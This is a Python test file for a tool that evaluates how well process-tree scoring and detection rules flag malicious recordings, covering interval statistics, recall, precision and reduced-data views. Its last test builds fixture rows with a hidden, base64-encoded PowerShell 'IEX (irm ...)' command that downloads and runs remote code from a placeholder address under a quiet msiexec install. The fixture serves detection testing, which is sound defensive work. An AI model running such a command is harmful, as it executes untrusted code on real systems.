"""The evaluation: what it counts, and whose label a tree gets."""

from __future__ import annotations

from base64 import b64encode
from dataclasses import replace
from typing import Any

import pytest

from evaluation import datasets, less_data, report
from evaluation.command import trees
from evaluation.measure import COMMAND, measure, precision, recall, templates
from evaluation.membership import tree_of_rows
from evaluation.model import (
    BUILT_WITH,
    HELD_OUT,
    DataSet,
    Findings,
    FoundTree,
    Hit,
    Recording,
    Unit,
)
from evaluation.plot import stacked
from evaluation.statistics import wilson
from evaluation.tables import as_markdown, as_text, counts, goals, shares
from evaluation.tables import less_data as less_data_table


@pytest.mark.parametrize(
    ("count", "total", "low", "high"),
    [
        (18, 31, 0.407, 0.736),
        (0, 45, 0.0, 0.079),
        (14, 14, 0.785, 1.0),
        (1, 2, 0.095, 0.905),
    ],
)
def test_wilson_interval(count: int, total: int, low: float, high: float) -> None:
    share = wilson(count, total)
    assert (share.low, share.high) == pytest.approx((low, high), abs=0.001)
    assert share.low <= share.value <= share.high


def test_wilson_of_nothing_and_of_nonsense() -> None:
    assert str(wilson(0, 0)) == "-"
    with pytest.raises(ValueError, match="3 of 2 is no share"):
        wilson(3, 2)


def row(name: str, pid: int, parent: int = 0, time: float = 1, **more: Any) -> dict[str, Any]:
    owned = {"parent_process_id": parent} if parent else {}
    return {"_time": time, "dest": "h", "process_name": name, "process_id": pid, **owned, **more}


def tree(score: int, *members: int, mark: str = "f") -> FoundTree:
    severity = "high" if score >= 60 else "medium" if score >= 40 else "informational"
    return FoundTree(f"id{members}", mark, score, severity, (), "", members[0], members)


def data_set(*rows: tuple[str, dict[str, Any]], **labels: str) -> DataSet:
    """Make a data set of (recording, row); the label is given by the recording's name."""
    names = list(labels)
    recordings = tuple(Recording(name, label) for name, label in labels.items())
    return DataSet(
        "set", tuple(r for _, r in rows), tuple(names.index(n) for n, _ in rows), recordings
    )


def test_events_belong_to_the_tree_of_the_process_that_they_name() -> None:
    rows = [
        row("msiexec.exe", 4, 1, 1, process_guid="{a}"),
        row("cmd.exe", 8, 4, 2),
        row("other.exe", 8, 1, 9),
        row("msiexec.exe", 4, time=3, process_guid="{a}", dest_ip="192.0.2.1"),
        {**row("cmd.exe", 8, time=3, dest_ip="192.0.2.1"), "src": "H", "dest": "far"},
        row("other.exe", 8, time=20, file_path="/x"),
        row("cmd.exe", 99, time=3, file_path="/x"),
    ]
    assert tree_of_rows(rows, [tree(0, 0, 1)]) == [0, 0, -1, 0, 0, -1, -1]


def test_malicious_recordings_and_benign_trees_are_counted() -> None:
    data = data_set(
        ("bad", row("a", 1, 9)),
        ("bad", row("b", 2, 9)),
        ("gone", row("c", 3, 9)),
        ("good", row("d", 4, 9)),
        ("good", row("e", 5, 9)),
        ("quiet", row("f", 6, 9)),
        ("noise", row("g", 7, 9)),
        bad="malicious",
        gone="malicious",
        good="benign",
        quiet="benign",
        noise="background",
    )
    rule = Findings("rule", (Hit(1, "medium", "r"), Hit(2, "high", "r"), Hit(4, "low", "r")), 1)
    loud = Findings("loud", (Hit(5, "medium", "x"), Hit(6, "medium", "x"), Hit(6, "high", "y")), 1)
    found = [tree(50, 0), tree(70, 1), tree(0, 3), tree(45, 4, 6)]
    result = measure(data, found, [rule, loud])
    assert [(u.recording.name, u.score) for u in result.units] == [
        ("bad", 70),
        ("gone", 0),
        ("good", 45),
        ("good", 0),
        ("quiet", 0),
    ]
    severities = [u.severity for u in result.units]
    assert severities[0] == {COMMAND: "high", "rule": "medium"}
    assert severities[1] == {"rule": "high"}, "a rule finds a recording without any tree"
    assert severities[2] == {COMMAND: "medium", "rule": "low", "loud": "high"}
    assert severities[4] == {}, "hits outside of trees are counted as silence that was broken"
    assert result.silent_events == 2
    assert result.broken_silence == {COMMAND: 1, "rule": 0, "loud": 2}
    assert recall(result.units, COMMAND, "medium").count == 1
    assert recall(result.units, "rule", "low").count == 2
    assert str(precision(result.units, COMMAND, "high")) == "100% (21% to 100%)"


def test_events_of_another_recording_in_an_alarming_tree_are_counted() -> None:
    data = data_set(("one", row("a", 1, 9)), ("two", row("b", 2, 1)), one="malicious", two="benign")
    assert measure(data, [tree(80, 0, 1)], []).broken_silence == {COMMAND: 1}
    assert measure(data, [tree(10, 0, 1)], []).broken_silence == {COMMAND: 0}


def test_one_deployment_on_many_hosts_is_one_template() -> None:
    one, other = Recording("fleet", "benign"), Recording("bad", "malicious")
    units = [
        Unit(one, "f1", 10, (), {COMMAND: "informational"}),
        Unit(one, "f1", 45, (), {COMMAND: "medium", "rule": "low"}),
        Unit(one, "f2", 0, ()),
        Unit(other, "f1", 90, (), {COMMAND: "critical"}),
    ]
    joined = templates(units)
    assert [(u.recording.label, u.fingerprint, u.score) for u in joined] == [
        ("benign", "f1", 45),
        ("benign", "f2", 0),
        ("malicious", "f1", 90),
    ]
    assert joined[0].severity == {COMMAND: "medium", "rule": "low"}


def test_tables_count_an_install_of_two_sets_once() -> None:
    small = data_set(("linux/x", row("a", 1, 9)), **{"linux/x": "malicious"})
    large = data_set(*[("rec/x", row("a", 1, 9))] * 2, **{"rec/x": "malicious"})
    large = DataSet("large", large.rows, large.recording_of, large.recordings)
    results = [measure(small, [tree(90, 0)], []), measure(large, [], [])]
    header, rows = shares(results)
    assert rows[0][:3] == [COMMAND, "medium+", "0/1 = 0% (0% to 79%)"], header
    assert "| malicious, medium or above | at least 97% | 1/1 met | 0/1 missed |" in as_markdown(
        goals(results)
    )
    lines = as_text(counts(results[0])).splitlines()
    assert lines[2].split() == [COMMAND, "1", "1", "1", "0", "1", "0", "0", "0", "0", "0", "0", "0"]


def test_what_is_said_of_the_bands_counts_an_install_of_two_sets_once() -> None:
    """The samples hold some of the recordings that the catalogue was built with."""
    sets = [
        data_set((f"{place}/x", row("a", 1, 9)), **{f"{place}/x": "malicious"}) for place in "ab"
    ]
    built = [replace(data, name=str(n), part=BUILT_WITH) for n, data in enumerate(sets)]
    results = [measure(data, [tree(90, 0)], []) for data in built]
    page = report.markdown(results, [], [], picture=True)
    assert "1 of 1\nmalicious recordings reach it" in page


def test_points_of_equal_scores_do_not_hide_each_other() -> None:
    points = stacked([50, 50, 51, 90], 1.0, 1)
    assert len(set(points)) == 4
    assert points[-1] == (90.0, 1.0)


def test_held_out_trees_are_reported_as_sums_only() -> None:
    for data in datasets.own():
        if data.part == HELD_OUT:
            page = report.markdown([measure(data, [], [])], [], [], picture=False)
            assert f"{sum(r.label == 'malicious' for r in data.recordings)} malicious" in page
            assert not [r.name for r in data.recordings if r.name.rpartition("/")[2] in page]
            return
    pytest.fail("there is no held-out set")


def test_the_command_gives_each_tree_its_rows() -> None:
    rows = [
        row("explorer.exe", 2, 1, 1),
        row(
            "msiexec.exe",
            4,
            2,
            2,
            process="msiexec /i C:\\a.msi",
            parent_process_name="explorer.exe",
        ),
        row("cmd.exe", 8, 4, 3, process="cmd /c dir", parent_process_name="msiexec.exe"),
    ]
    found, messages = trees(rows)
    assert [(t.root, sorted(t.members)) for t in found] == [(1, [1, 2])]
    assert messages == []


def test_each_view_takes_away_what_its_name_says() -> None:
    start = row(
        "a.exe", 16, 2, 1.75, process="a " + "x" * 999, parent_process="b", process_guid="{1}"
    )
    file = row("a.exe", 16, time=2.5, file_path="/x")
    seen = {name: view(start) for name, view in less_data.VIEWS.items()}
    assert all(seen.values()), "one row is not among those that are lost"
    assert "process_guid" in start, "the data itself stays as it is"
    assert "process_guid" not in seen["no GUIDs"]
    assert "parent_process" not in seen["no command line of the parent"]
    assert seen["times in whole seconds"]["_time"] == 1.0
    assert len(seen["command lines cut after 500 characters"]["process"]) == 500
    known = seen["process creations as event 4688 has them"]
    assert (known["process_id"], known["parent_process_id"]) == ("0x10", "0x2")
    assert known.keys() & {"process_guid", "parent_process"} == set()
    assert known["process"]
    assert "process" not in seen["the same without command lines"]
    assert less_data.VIEWS["process creations only"](file) is None
    lost = sum(less_data.some_lost({**start, "process_id": n}) is None for n in range(2_000))
    assert 30 <= lost <= 90, "about 3% of 2,000"


def test_less_data_is_measured_beside_all_of_it() -> None:
    """A script host below an installer is found by GUID and by id, without lines by neither."""
    line = b64encode("IEX (irm https://203.0.113.7/a)".encode("utf-16-le")).decode()
    rows = [
        row("msiexec.exe", 4, 2, 2, process="msiexec /q /i https://files.example/a.msi"),
        row("powershell.exe", 8, 4, 3, process=f"powershell -w hidden -enc {line}"),
    ]
    data = data_set(*(("bad", r) for r in rows), bad="malicious")
    less = less_data.measured(data, trees(data.rows)[0])
    table = {name: found for name, *found in less_data_table(less)[1]}
    assert table["everything"][0] == "1/1"
    assert table["no GUIDs"][0] == "1/1"
    assert table["the same without command lines"][0] == "0/1"
    page = report.markdown([], [less], [], picture=False)
    assert "| the same without command lines | 0/1 | 0/1 | 0/0 | 0/0 |" in page
